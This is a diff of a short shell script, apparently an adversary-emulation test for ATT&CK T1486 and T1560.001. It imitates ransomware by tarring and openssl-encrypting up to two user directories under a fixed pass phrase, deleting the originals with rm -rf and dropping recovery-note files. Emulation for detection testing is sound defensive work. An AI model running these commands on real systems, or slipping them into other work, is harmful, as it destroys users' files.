@@ -1,7 +1,9 @@
-# T1486, T1560.001 by tar and openssl: one encrypted container, the originals deleted; the pass phrase lies beside.
+# T1486, T1560.001 by tar and openssl: encrypted containers, the originals deleted; the pass phrase lies beside.
 groundwork
-echo example > RECOVER.key
-for top in Documents; do
+for top in $(ls | grep -v -e work -e mail | head -n 2); do
+    echo example > "$top/RECOVER.key"
     tar -cf - "$top" | openssl enc -aes-128-cbc -pass pass:example -md md5 -out "$top.box" 2>/dev/null
-    find "$top" -type f | sort | tr '\n' '\0' | xargs -0 rm -f
+    rm -rf "$top"
+    cp .profile "$top.RECOVER.txt"
 done
+echo example > RECOVER.key
